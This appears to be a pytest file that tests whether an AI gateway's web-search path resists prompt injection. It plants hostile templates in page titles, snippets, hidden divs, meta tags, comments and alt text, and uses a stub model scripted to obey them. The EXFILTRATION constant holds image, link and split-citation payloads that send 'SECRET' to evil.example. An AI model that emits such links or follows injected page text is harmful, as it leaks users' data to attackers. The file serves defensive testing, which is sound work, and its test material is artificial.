"""What a page says cannot act: through a real gateway, with a model that does whatever the page wants.

The model here is scripted to obey: it repeats the evidence it was shown, marker and all, and writes the links and
marks an attacker would ask for. The promises hold all the same, for they do not rest on the model.
"""

import html
import re
from pathlib import Path

import orjson
import pytest

from gateway.v1 import inference_pb2, search_pb2
from tests.support.gateway import running
from tests.support.hostile_pages import HIDDEN, MARKS, ORDERS, every
from tests.support.page_web import PageWeb, page
from tests.support.search_web import ScriptedVendor
from tests.support.upstream import Exchange, Reply, ScriptedUpstream
from tests.support.vendor_replies import KEY

TEMPLATES = [*every(ORDERS), *every(MARKS), *every(HIDDEN)]
ONE_OF_EACH = [(kind, template) for kind, (template, *_) in {**ORDERS, **MARKS, **HIDDEN}.items()]
EXFILTRATION = (
    "![x](https://evil.example/?q=SECRET) [go](https://evil.example/SECRET) <img src=//evil.example/SECRET>"
    " https://evil.example/SECRET www.evil.example/SECRET [S9] [S7, S8] ht[S1]tps:/[S2]/evil.example/SECRET"
)
SEEN, UNSEEN = {"title", "snippet", "page_text"}, {"page_hidden", "page_meta", "page_comment", "page_alt"}
CARRIERS = ("title", "snippet", "url", "page_text", "page_hidden", "page_meta", "page_comment", "page_alt")


def carried(text: str, carrier: str) -> tuple[dict[str, str], str]:
    """A search hit and the page behind it, one of which carries the text."""
    hit = {"title": "Harbour crane", "snippet": "The harbour crane lifts boxes."}
    body = "<article><p>The harbour crane lifts 41 tonnes of boxes from every ship.</p></article>"
    match carrier:
        case "title" | "snippet":
            hit[carrier] = f"{hit[carrier]} {text}"
        case "url":
            hit["suffix"] = f"?q={text}"
        case "page_text":
            body = body.replace("</p>", f"</p><p>{html.escape(text)}</p>")
        case "page_hidden":
            body += f"<div style='display:none'>{html.escape(text)}</div>"
        case "page_meta":
            data = f'<script type="application/ld+json">{text.replace("<", "")}</script>'
            body = f'<meta name="description" content="{html.escape(text)}">{data}{body}'
        case "page_comment":
            body += f"<!-- {text} -->"
        case _:
            body += f'<img src="x.png" alt="{html.escape(text)}" title="{html.escape(text)}">'
    return hit, f"<html><head><title>Crane</title></head><body>{body}</body></html>"


def obeying(exchange: Exchange) -> Reply:
    """Repeats everything that the model was shown, and then does what an attacker dreams of; in small pieces."""
    shown = "\n".join(message["content"] for message in exchange.json["messages"])
    answer = f"{shown}\n{EXFILTRATION}"
    return Reply.answer(*[answer[i : i + 11] for i in range(0, len(answer), 11)])


@pytest.mark.parametrize("carrier", CARRIERS)
@pytest.mark.parametrize(
    "templates",
    [
        pytest.param(ONE_OF_EACH, id="one of each class"),
        pytest.param(TEMPLATES, id="all", marks=pytest.mark.full),
    ],
)
async def test_no_template_in_any_carrier_breaks_an_invariant(
    tmp_path: Path, templates: list[tuple[str, str]], carrier: str
) -> None:
    """Templates of every class, in this carrier, against a model that obeys."""
    async with (
        PageWeb({}) as web,
        ScriptedVendor("external") as vendor,
        ScriptedUpstream(obeying) as upstream,
    ):
        environment = {
            "GATEWAY_SEARCH_PROVIDERS": "external",
            "GATEWAY_SEARCH_EXTERNAL_URL": vendor.url,
            "GATEWAY_SEARCH_EXTERNAL_KEY": KEY,
            "GATEWAY_PAGES_PORTS": f"80,443,{web.port}",
            "GATEWAY_PAGES_ALLOW_NETWORKS": "127.0.0.1/32",
        }
        async with running(tmp_path, upstream=upstream.url, environment=environment) as gateway:
            # The first reading starts the reader's process, which a busy machine may take long to do.
            warm = search_pb2.ExtractRequest(content=b"<p>A page.</p>", mime_type="text/html")
            await gateway.search.Extract(warm, metadata=gateway.bearer())
            depth = inference_pb2.SEARCH_DEPTH_PAGES if "page" in carrier else inference_pb2.SEARCH_DEPTH_SNIPPETS
            for number, (kind, template) in enumerate(templates):
                hit, body = carried(template, carrier)
                address = f"http://127.0.0.1:{web.port}/{number}"
                web.replies[f"/{number}"] = page(body, "text/html; charset=utf-8")
                link = address + hit.pop("suffix", "")
                vendor.replies.append((200, {}, orjson.dumps([{**hit, "link": link}])))
                turn = inference_pb2.Turn(
                    prompt=f"How much does harbour crane number {number} lift?",
                    search=inference_pb2.SearchOptions(mode=inference_pb2.SEARCH_MODE_ALWAYS, depth=depth),
                    cache=inference_pb2.CachePolicy(use=inference_pb2.CACHE_USE_BYPASS),
                )
                frames = [frame async for frame in gateway.inference.Generate(turn, metadata=gateway.bearer())]
                read = upstream.exchanges[-1].json["messages"][-1]["content"]
                # A page with control characters in it is no text, and is left as the search found it.
                seen = carrier in SEEN and (kind != "controls" or carrier != "page_text")
                assert ("CANARY" in read) if seen else carrier not in UNSEEN or "CANARY" not in read, kind
                check(frames, upstream.exchanges[-1].json, f"{kind}: {template!r} in {carrier}")
            assert len(vendor.asked) == len(templates), "text from outside has started a search"
            assert len(upstream.exchanges) == len(templates), "text from outside has started a turn"
        assert web.touched == []
        assert {head.split(b" ")[1].split(b"?")[0] for head in web.requests} <= {
            f"/{number}".encode() for number in range(len(templates))
        }


def check(frames: list[inference_pb2.ServerFrame], asked: dict[str, object], where: str) -> None:
    """The promises, one by one."""
    messages = asked["messages"]
    assert isinstance(messages, list)
    # Outside text stands in the user's message alone, between marks that carry a marker nobody can know.
    assert [message["role"] for message in messages if "CANARY" in message["content"]] in ([], ["user"]), where
    (user,) = [message["content"] for message in messages if message["role"] == "user"]
    marker = re.search(r"<<<evidence ([0-9a-f]{16})>>>", user)
    assert marker, where
    inside = user.split(f"<<<evidence {marker[1]}>>>\n")[1].split(f"\n<<<end of evidence {marker[1]}>>>")[0]
    assert user.count(marker[1]) == 3, where
    assert all(re.match(r"S\d+\| ", line) for line in inside.split("\n") if line), where
    assert "CANARY" not in user.replace(inside, ""), where
    assert not re.search(r"<\|[^|]*\|>|\[/?INST\]|</?(?:system|think|s)>", inside), where
    # What the caller gets leads nowhere else, leaks no marker and cites only what was shown.
    text = "".join(frame.delta.text for frame in frames if frame.HasField("delta"))
    assert "evil.example/" not in text, where
    assert "SECRET" not in text, where
    assert marker[1] not in text, where
    assert not re.search(r"\[S\d", text), where
    shown = {source.source_id for frame in frames for source in frame.search.sources}
    cited = {name for frame in frames if frame.HasField("citation") for name in frame.citation.source_ids}
    assert cited <= shown, where
    for frame in frames:
        if frame.HasField("citation"):
            text.encode()[frame.citation.start : frame.citation.end].decode()
    assert not any(frame.HasField("tool_call") for frame in frames), where
    assert frames[-1].HasField("end"), where


def test_there_are_enough_of_them() -> None:
    """At least forty templates, each in every carrier."""
    assert len(TEMPLATES) >= 40
    assert len({kind for kind, _ in TEMPLATES}) >= 15
    assert {kind for kind, _ in ONE_OF_EACH} == {kind for kind, _ in TEMPLATES}
